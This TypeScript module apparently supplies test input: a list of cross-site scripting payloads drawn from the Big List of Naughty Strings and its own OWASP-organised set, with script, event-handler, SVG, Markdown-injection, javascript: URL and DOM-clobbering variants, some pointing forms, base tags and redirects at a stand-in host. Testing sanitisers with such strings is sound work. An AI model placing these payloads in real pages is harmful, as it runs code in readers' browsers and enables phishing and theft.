/**
 * Texts that try to run code in a reader's browser. No npm package holds a collection of these alone that is kept and
 * licensed, so there are two sources: the strings of the Big List of Naughty Strings that are markup or addresses, and
 * a collection of our own, which has every kind that the OWASP cheat sheets tell apart.
 */
import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };

/** Ways to write one element or attribute past a filter, and elements that run code or load it. */
const OWN: readonly string[] = [
  // Scripts.
  '<script>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  // Handlers.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img """><b onmouseover=alert(1)>x</b>">',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="https://evil.example/x.js"></script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<x onclick=alert(1) tabindex=1 id=x>x</x>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
  // Documents within the document.
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.svg">',
  '<frameset><frame src="https://evil.example/"></frameset>',
  // What the whole page follows.
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<form id=x></form><button form=x formaction="https://evil.example/">x</button>',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  // Names that scripts look for.
  '<img name=body><img name=getElementById><form id=app name=documentElement><input name=attributes></form>',
  '<a id=site-app></a><a id=page-data>{}</a>',
  // Ends and starts of what is around.
  '</div></article></main><script>alert(1)</script>',
  '--><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<b <script>alert(1)</script>0',
  '<img title="</p><img src=x onerror=alert(1)>" alt=\'"><img src=x onerror=alert(1)>\'>',
  // Within what Markdown and the build make of a text.
  '[x](https://example.org/ "onmouseover=alert(1) \\" onmouseover=alert(1)")',
  '![" onerror="alert(1)](x.png)',
  '**<b onclick=alert(1)>x</b>**',
  '| a <img src=x onerror=alert(1)> |\n| --- |\n| <svg onload=alert(1)> |',
  '## Part <img src=x onerror=alert(1)>',
  '# <svg onload=alert(1)> {#x"onclick="alert(1)}',
  ':::note[<img src=x onerror=alert(1)>]\n<script>alert(1)</script>\n:::',
  ':::note{onclick="alert(1)" .x" #y"}\nx\n:::',
  '```html title="<img src=x onerror=alert(1)>"\n<script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x} \\htmlData{onclick=alert(1)}{y}$',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // Addresses.
  '[x](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<q cite="javascript:alert(1)">x</q>',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<video poster="javascript:alert(1)"></video>',
];

/** All of them, each a text to be put into a page. */
export const ATTACKS: readonly string[] = [
  ...new Set([...OWN, ...naughty.filter((text) => /<|script|onerror|alert/i.test(text))]),
];
